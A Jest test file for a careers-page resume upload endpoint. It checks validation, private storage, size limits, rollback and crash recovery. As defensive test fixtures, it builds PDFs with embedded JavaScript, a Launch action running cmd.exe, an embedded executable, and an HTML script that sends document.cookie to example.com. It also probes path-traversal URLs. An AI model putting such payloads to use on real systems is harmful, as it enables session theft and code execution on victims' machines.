import { readEnglishMessage, readEnglishMessages } from '@chalein/testing/validation-messages';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import fsp from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { RESUME_MAX_BYTES, jobApplicationMessages as jobApplicationMessageKeys } from '@chalein/shared/lib/validation/job-application';
import { uploadedFileMessages as uploadedFileMessageKeys } from '@chalein/shared/lib/validation/uploaded-files';
import { INTERNAL_ERROR_MESSAGE } from '../http/error-handlers';
import { encodeForm, encodeMultipart, type FilePart } from '@chalein/testing/multipart-form';
import { createTempDir } from '../test-support/temp-dir';
import { createTestApp, type TestApp } from '../test-support/test-app';
import { buildTinyDoc, buildTinyDocx, buildTinyPdf, notResumes } from '@chalein/testing/files/resume-files';
import { buildPdf } from '@chalein/testing/files/pdf-files';
import { careerMessages } from './job-application-service';
import { waitUntil } from '@chalein/testing/wait-until';
import { buildJobApplicationFields } from '@chalein/testing/fixtures/job-application';

// answers are in English unless the request asks for another language: the messages as an English page shows them
const jobApplicationMessages = readEnglishMessages(jobApplicationMessageKeys);
const uploadedFileMessages = readEnglishMessages(uploadedFileMessageKeys);

// POST /api/career end to end inside the process: real multipart bodies (built by the platform's own FormData),
// a real SQLite file and a real private folder on disk.

const PDF_TYPE = 'application/pdf';
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

type ResumePart = Omit<FilePart, 'field'> & { field?: string };

const buildMultipart = (fields: Record<string, string>, files: ResumePart[] = []) =>
  encodeMultipart(
    fields,
    files.map((file) => ({ ...file, field: file.field ?? 'resume_cv' })),
  );

function listFolder(folder: string): string[] {
  return fs.existsSync(folder) ? fs.readdirSync(folder).sort() : [];
}

describe('POST /api/career', () => {
  let testApp: TestApp;
  let privateDir: string;
  let resumesDir: string;
  let jobId: number;

  // the name as typed with spaces around it: it is stored trimmed
  const validFields = () => ({ ...buildJobApplicationFields(jobId), name: '  Asha Rao ' });

  async function postApplication(fields: Record<string, string>, files: ResumePart[] = []) {
    const { payload, headers } = await buildMultipart(fields, files);
    return testApp.app.inject({ method: 'POST', url: '/api/career', payload, headers });
  }

  const countRows = async () =>
    Number(
      (
        await testApp.app.db
          .selectFrom('job_applications')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );

  /** Posts `bytes` as the resume: a 400 with `message` at the field, and no row or file kept. */
  async function expectResumeRefused(bytes: Buffer, message: string) {
    const rowsBefore = await countRows();
    const filesBefore = listFolder(resumesDir);
    const response = await postApplication(validFields(), [{ bytes, name: 'resume.pdf', type: PDF_TYPE }]);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ success: false, message, errors: { resume_cv: message } });
    expect(await countRows()).toBe(rowsBefore);
    expect(listFolder(resumesDir)).toEqual(filesBefore);
  }

  beforeAll(async () => {
    privateDir = createTempDir('chalein-private-');
    resumesDir = path.join(privateDir, 'resumes');
    testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '1000' });
    const first = await testApp.app.db.selectFrom('job_categories').select('id').orderBy('id').executeTakeFirstOrThrow();
    jobId = first.id;
  });

  afterAll(async () => {
    await testApp.closeTestApp();
    fs.rmSync(privateDir, { recursive: true, force: true });
  });

  it.each([
    ['a PDF', buildTinyPdf(), 'resume.pdf', PDF_TYPE, 'pdf'],
    ['a DOCX', buildTinyDocx(), 'Asha Rao CV.docx', DOCX_TYPE, 'docx'],
    ['a DOC', buildTinyDoc(), 'asha.doc', 'application/msword', 'doc'],
    // the bytes decide, not the name: a real DOCX that a phone named .pdf is still a resume
    ['a DOCX named .pdf', buildTinyDocx(), 'resume.pdf', PDF_TYPE, 'docx'],
  ])(
    'stores %s: one row with a reference, the file under a generated name in the private folder',
    async (_case, bytes, name, type, expectedType) => {
      const before = await countRows();
      const response = await postApplication(validFields(), [{ bytes, name, type }]);
      expect(response.statusCode).toBe(201);
      const body = response.json();
      expect(body).toEqual({
        success: true,
        message: 'Your form has been submitted successfully.',
        data: { reference: expect.stringMatching(/^JA-\d{4}-\d{5}$/) },
      });

      expect(await countRows()).toBe(before + 1);
      const row = await testApp.app.db
        .selectFrom('job_applications')
        .selectAll()
        .where('reference', '=', body.data.reference)
        .executeTakeFirstOrThrow();
      expect(row).toMatchObject({
        job_category_id: jobId,
        name: 'Asha Rao',
        gender: 'Female',
        prior_experience: 1,
        current_location: 'Indiranagar, Bengaluru',
        contact_number: '9876543210',
        email: 'asha.rao@example.in',
        reference_person_name: 'Kiran Shetty',
        reference_person_email: 'kiran@example.in',
        resume_original_name: name,
        resume_size: bytes.length,
        resume_type: expectedType,
      });
      expect(row.resume_file).toMatch(new RegExp(`^[0-9a-f-]{36}\\.${expectedType}$`));
      expect(Date.parse(row.consent_at)).not.toBeNaN();

      const stored = path.join(resumesDir, row.resume_file);
      expect(fs.readFileSync(stored).equals(bytes)).toBe(true);
      // readable by the server's user only; nothing half-written left beside it
      expect(fs.statSync(stored).mode & 0o777).toBe(0o600);
      expect(listFolder(resumesDir).filter((file) => file.endsWith('.part'))).toEqual([]);
    },
  );

  it('stores blank optional fields as empty, and no means 0', async () => {
    const response = await postApplication(
      { ...validFields(), prior_experience: '0', reference_person_name: '', reference_person_email: ' ', additional_information: '' },
      [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE }],
    );
    expect(response.statusCode).toBe(201);
    const row = await testApp.app.db
      .selectFrom('job_applications')
      .selectAll()
      .where('reference', '=', response.json().data.reference)
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({
      prior_experience: 0,
      reference_person_name: null,
      reference_person_email: null,
      additional_information: '',
    });
  });

  it('never serves a stored resume: no URL under /uploads or the site reaches the private folder', async () => {
    const response = await postApplication(validFields(), [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE }]);
    const row = await testApp.app.db
      .selectFrom('job_applications')
      .select('resume_file')
      .where('reference', '=', response.json().data.reference)
      .executeTakeFirstOrThrow();
    const urls = [
      `/uploads/${row.resume_file}`,
      `/uploads/resumes/${row.resume_file}`,
      `/uploads/%2e%2e/%2e%2e/private/resumes/${row.resume_file}`,
      `/uploads/../../private/resumes/${row.resume_file}`,
      `/resumes/${row.resume_file}`,
      `/private/resumes/${row.resume_file}`,
    ];
    for (const url of urls) {
      const attempt = await testApp.app.inject({ method: 'GET', url });
      // 404, or the site's page fallback (here without a built shell): never the file
      expect(attempt.statusCode).not.toBe(200);
      expect(attempt.body).not.toContain('%PDF-');
    }
  });

  describe('wrong bytes under a right name', () => {
    it.each(Object.entries(notResumes))('refuses %s named resume.pdf with the form message, storing nothing', async (_name, bytes) => {
      await expectResumeRefused(bytes, 'Please upload a PDF, DOC, or DOCX file.');
    });
  });

  describe('PDFs that staff must not open', () => {
    const html = '<html><body><script>fetch("https://example.com/?"+document.cookie)</script></body></html>\n';
    const embedded = ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream', '<< /Type /Filespec /F (cv.exe) /EF << /F 6 0 R >> >>'];
    it.each([
      [
        'JavaScript',
        buildPdf({ catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
      ],
      ['a Launch action', buildPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
      ['an embedded file', buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(cv.exe) 7 0 R] >> >>', objects: embedded })],
      ['an HTML page between its objects', buildPdf({ objects: ['<< /Producer (x) >>'], between: html })],
      ['an HTML page after %%EOF', buildPdf({ after: html })],
    ])('refuses a PDF with %s, saying what to do, and stores nothing', async (_case, bytes) => {
      await expectResumeRefused(bytes, uploadedFileMessages.resumePdfNotPlain);
    });

    it('refuses an encrypted PDF with its own message', async () => {
      const encrypted = buildPdf({ objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], trailer: '/Encrypt 6 0 R' });
      await expectResumeRefused(encrypted, uploadedFileMessages.resumePdfProtected);
    });
  });

  describe('oversize uploads', () => {
    it('answers 413 with the resume message for a file one byte over 5 MB, and stores nothing', async () => {
      const rowsBefore = await countRows();
      const filesBefore = listFolder(resumesDir);
      const pdf = buildTinyPdf();
      const bytes = Buffer.concat([pdf, Buffer.alloc(RESUME_MAX_BYTES + 1 - pdf.length, 0x20)]);
      const response = await postApplication(validFields(), [{ bytes, name: 'big.pdf', type: PDF_TYPE }]);
      expect(response.statusCode).toBe(413);
      expect(response.json()).toEqual({
        success: false,
        message: 'The resume must be 5 MB or smaller.',
        errors: { resume_cv: 'The resume must be 5 MB or smaller.' },
      });
      expect(await countRows()).toBe(rowsBefore);
      expect(listFolder(resumesDir)).toEqual(filesBefore);
    });

    it('accepts a file of exactly 5 MB', async () => {
      // a PDF made large by a stream of its own, as a scan's image makes one
      const padded = (length: number) => buildPdf({ objects: [`<< /Length ${length} >>\nstream\n${' '.repeat(length)}\nendstream`] });
      // the lengths and offsets written in the file grow by a few digits with it: measured once, then corrected
      const guess = RESUME_MAX_BYTES - padded(0).length;
      const bytes = padded(guess - (padded(guess).length - RESUME_MAX_BYTES));
      expect(bytes.length).toBe(RESUME_MAX_BYTES);
      const response = await postApplication(validFields(), [{ bytes, name: 'exactly-5mb.pdf', type: PDF_TYPE }]);
      expect(response.statusCode).toBe(201);
    });

    it('refuses a request whose declared length is far over the limit before reading it', async () => {
      const response = await testApp.app.inject({
        method: 'POST',
        url: '/api/career',
        headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(50 * 1024 * 1024) },
        payload: '--x--\r\n',
      });
      expect(response.statusCode).toBe(413);
      expect(response.json()).toMatchObject({ success: false, errors: { resume_cv: 'The resume must be 5 MB or smaller.' } });
    });

    it('refuses a second file with 413', async () => {
      const response = await postApplication(validFields(), [
        { bytes: buildTinyPdf(), name: 'a.pdf', type: PDF_TYPE },
        { bytes: buildTinyPdf(), name: 'b.pdf', type: PDF_TYPE },
      ]);
      expect(response.statusCode).toBe(413);
      expect(response.json()).toMatchObject({ success: false, message: readEnglishMessage(careerMessages.tooManyFiles) });
      expect(listFolder(resumesDir).filter((file) => file.endsWith('.part'))).toEqual([]);
    });
  });

  describe('missing and bad fields', () => {
    it('answers every rule of the form at once, with the form messages word for word', async () => {
      const response = await postApplication({});
      expect(response.statusCode).toBe(400);
      expect(response.json().errors).toEqual({
        name: 'Name is required.',
        gender: 'Gender is required.',
        prior_experience: 'prior experience  is required.',
        current_location: 'Current location is required.',
        number: 'Contact number is required.',
        email: 'Email is required.',
        consent: jobApplicationMessages.consentRequired,
        jobId: readEnglishMessage(careerMessages.jobIdInvalid),
        resume_cv: 'Please upload your resume (PDF, DOC, or DOCX).',
      });
    });

    it.each([
      ['a 9-digit number', { number: '987654321' }, 'number', 'Contact number must be a 10-digit number.'],
      ['a number with letters', { number: '98765abc10' }, 'number', 'Contact number must be a 10-digit number.'],
      ['a gender not offered', { gender: 'Robot' }, 'gender', 'Gender is required.'],
      ['prior experience that is not yes or no', { prior_experience: 'maybe' }, 'prior_experience', 'prior experience  is required.'],
      ['a blank name', { name: '   ' }, 'name', 'Name is required.'],
      ['an invalid email', { email: 'asha@' }, 'email', 'Please enter a valid email address.'],
      [
        'an invalid reference email',
        { reference_person_email: 'kiran' },
        'reference_person_email',
        'Please enter a valid email address for the reference person.',
      ],
      ['no consent', { consent: '' }, 'consent', jobApplicationMessages.consentRequired],
      ['too much additional information', { additional_information: 'x'.repeat(5001) }, 'additional_information', 'This is too long.'],
      ['a field longer than the multipart limit', { name: 'x'.repeat(30_000) }, 'name', 'This is too long.'],
      ['a job id that is not a number', { jobId: 'driver' }, 'jobId', readEnglishMessage(careerMessages.jobIdInvalid)],
      ['an unknown job id', { jobId: '987654' }, 'jobId', readEnglishMessage(careerMessages.jobUnknown)],
    ])('refuses %s with 400 and its message, storing nothing', async (_case, change, field, message) => {
      const rowsBefore = await countRows();
      const filesBefore = listFolder(resumesDir);
      const response = await postApplication({ ...validFields(), ...change }, [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE }]);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ success: false, message, errors: { [field]: message } });
      expect(await countRows()).toBe(rowsBefore);
      expect(listFolder(resumesDir)).toEqual(filesBefore);
    });

    it('accepts the fields in any order, the file first', async () => {
      const form = new FormData();
      form.append('resume_cv', new Blob([new Uint8Array(buildTinyPdf())], { type: PDF_TYPE }), 'cv.pdf');
      for (const [key, value] of Object.entries(validFields()).reverse()) form.append(key, value);
      const response = await testApp.app.inject({ method: 'POST', url: '/api/career', ...(await encodeForm(form)) });
      expect(response.statusCode).toBe(201);
    });

    it('ignores a file under another field name and asks for the resume', async () => {
      const response = await postApplication(validFields(), [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE, field: 'photo' }]);
      expect(response.statusCode).toBe(400);
      expect(response.json().errors).toEqual({ resume_cv: 'Please upload your resume (PDF, DOC, or DOCX).' });
    });
  });

  describe('a failure between the row and the file leaves neither alone', () => {
    afterEach(() => jest.restoreAllMocks());

    it('removes the received resume when the row cannot be written', async () => {
      jest.spyOn(testApp.app.repositories.jobApplications, 'insertApplication').mockRejectedValueOnce(new Error('SQLITE_FULL'));
      const rowsBefore = await countRows();
      const filesBefore = listFolder(resumesDir);
      const response = await postApplication(validFields(), [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE }]);
      // a fault of this machine, not of the applicant: a plain 500 that tells nothing about the server
      expect(response.statusCode).toBe(500);
      expect(response.json()).toEqual({ success: false, message: readEnglishMessage(INTERNAL_ERROR_MESSAGE) });
      expect(await countRows()).toBe(rowsBefore);
      expect(listFolder(resumesDir)).toEqual(filesBefore);
    });

    it('deletes the row again when the resume cannot be put in place, and keeps no part of the file', async () => {
      const failure = Object.assign(new Error('EIO: i/o error, rename'), { code: 'EIO', syscall: 'rename' });
      jest.spyOn(fsp, 'rename').mockRejectedValueOnce(failure);
      const rowsBefore = await countRows();
      const filesBefore = listFolder(resumesDir);
      const response = await postApplication(validFields(), [{ bytes: buildTinyPdf(), name: 'cv.pdf', type: PDF_TYPE }]);
      expect(response.statusCode).toBe(500);
      expect(response.json()).toEqual({ success: false, message: readEnglishMessage(INTERNAL_ERROR_MESSAGE) });
      expect(await countRows()).toBe(rowsBefore);
      expect(listFolder(resumesDir)).toEqual(filesBefore);
    });
  });

  describe('bodies that are not a multipart form', () => {
    it('answers JSON with 415', async () => {
      const response = await testApp.app.inject({ method: 'POST', url: '/api/career', payload: validFields() });
      expect(response.statusCode).toBe(415);
      expect(response.json()).toEqual({ success: false, message: readEnglishMessage(careerMessages.notMultipart) });
    });

    it('answers a malformed multipart body with 400, never 500', async () => {
      const noBoundary = await testApp.app.inject({
        method: 'POST',
        url: '/api/career',
        headers: { 'content-type': 'multipart/form-data' },
        payload: 'name=Asha',
      });
      expect(noBoundary.statusCode).toBe(400);
      expect(noBoundary.json()).toEqual({ success: false, message: readEnglishMessage(careerMessages.unreadable) });
    });
  });
});

describe('POST /api/career rate limit', () => {
  let testApp: TestApp;
  let privateDir: string;

  beforeAll(async () => {
    privateDir = createTempDir('chalein-private-');
    testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '2' });
  });
  afterAll(async () => {
    await testApp.closeTestApp();
    fs.rmSync(privateDir, { recursive: true, force: true });
  });

  it('answers 429 once an address posts more than the limit in a minute, before reading the upload', async () => {
    const { payload, headers } = await buildMultipart({ name: '' });
    const statuses: number[] = [];
    for (let i = 0; i < 3; i += 1) {
      statuses.push((await testApp.app.inject({ method: 'POST', url: '/api/career', payload, headers })).statusCode);
    }
    expect(statuses).toEqual([400, 400, 429]);
  });
});

describe('interrupted uploads: what a crash leaves is finished or removed when the server starts listening', () => {
  let testApp: TestApp;
  let privateDir: string;
  let resumesDir: string;
  const committed = randomUUID();
  const oldOrphan = randomUUID();
  const youngOrphan = randomUUID();
  const otherDatabase = randomUUID();

  const waitFor = (check: () => boolean, what: string) =>
    waitUntil(check, () => `${what}; folder: ${listFolder(resumesDir).join(', ')}`, { intervalMs: 25 });

  beforeAll(async () => {
    privateDir = createTempDir('chalein-private-');
    resumesDir = path.join(privateDir, 'resumes');
    testApp = await createTestApp({ PRIVATE_UPLOADS_DIR: privateDir, RATE_LIMIT_FORMS_PER_MINUTE: '1000' });
    fs.mkdirSync(resumesDir, { recursive: true });
    const hourAgo = new Date(Date.now() - 60 * 60_000);

    // the process died after the row was committed and before the rename
    fs.writeFileSync(path.join(resumesDir, `${committed}.part`), buildTinyPdf());
    const job = await testApp.app.db.selectFrom('job_categories').select('id').executeTakeFirstOrThrow();
    await testApp.app.repositories.jobApplications.insertApplication({
      jobCategoryId: job.id,
      name: 'Asha Rao',
      gender: 'Female',
      currentLocation: 'Bengaluru',
      contactNumber: '9876543210',
      email: 'asha@example.in',
      additionalInformation: '',
      priorExperience: 0,
      referencePersonName: null,
      referencePersonEmail: null,
      resumeFile: `${committed}.pdf`,
      resumeOriginalName: 'cv.pdf',
      resumeSize: buildTinyPdf().length,
      resumeType: 'pdf',
    });
    // the process died while receiving, an hour ago
    fs.writeFileSync(path.join(resumesDir, `${oldOrphan}.part`), '%PDF-1.4 half');
    fs.utimesSync(path.join(resumesDir, `${oldOrphan}.part`), hourAgo, hourAgo);
    // another server sharing the folder is receiving this one right now
    fs.writeFileSync(path.join(resumesDir, `${youngOrphan}.part`), '%PDF-1.4 still coming');
    // a finished resume of another database: this server has no row for it and must not care
    fs.writeFileSync(path.join(resumesDir, `${otherDatabase}.pdf`), buildTinyPdf());
    fs.utimesSync(path.join(resumesDir, `${otherDatabase}.pdf`), hourAgo, hourAgo);

    await testApp.app.listen({ port: 0, host: '127.0.0.1' });
  });

  afterAll(async () => {
    await testApp.closeTestApp();
    fs.rmSync(privateDir, { recursive: true, force: true });
  });

  it('renames the .part its row waits for, deletes the old orphan, and leaves the rest alone', async () => {
    await waitFor(() => fs.existsSync(path.join(resumesDir, `${committed}.pdf`)), 'the committed resume');
    await waitFor(() => !fs.existsSync(path.join(resumesDir, `${oldOrphan}.part`)), 'the old orphan to go');
    expect(listFolder(resumesDir)).toEqual([`${committed}.pdf`, `${otherDatabase}.pdf`, `${youngOrphan}.part`].sort());
    expect(fs.readFileSync(path.join(resumesDir, `${committed}.pdf`)).equals(buildTinyPdf())).toBe(true);
  });

  it('answers a body cut off in the middle of the resume with 400 over real HTTP, and keeps no part of it', async () => {
    const address = testApp.app.server.address();
    if (typeof address !== 'object' || address === null) throw new Error('not listening');
    const before = listFolder(resumesDir);
    const body =
      '--abc\r\nContent-Disposition: form-data; name="resume_cv"; filename="cv.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4 and then the connection';
    const answer = await new Promise<{ status: number; text: string }>((resolve, reject) => {
      const request = http.request(
        {
          host: '127.0.0.1',
          port: address.port,
          method: 'POST',
          path: '/api/career',
          headers: { 'content-type': 'multipart/form-data; boundary=abc', 'content-length': Buffer.byteLength(body) },
        },
        (response) => {
          let text = '';
          response.setEncoding('utf8');
          response.on('data', (chunk: string) => (text += chunk));
          response.on('end', () => resolve({ status: response.statusCode ?? 0, text }));
        },
      );
      request.on('error', reject);
      request.end(body);
    });
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text)).toEqual({ success: false, message: readEnglishMessage(careerMessages.unreadable) });
    expect(listFolder(resumesDir)).toEqual(before);
  });
});
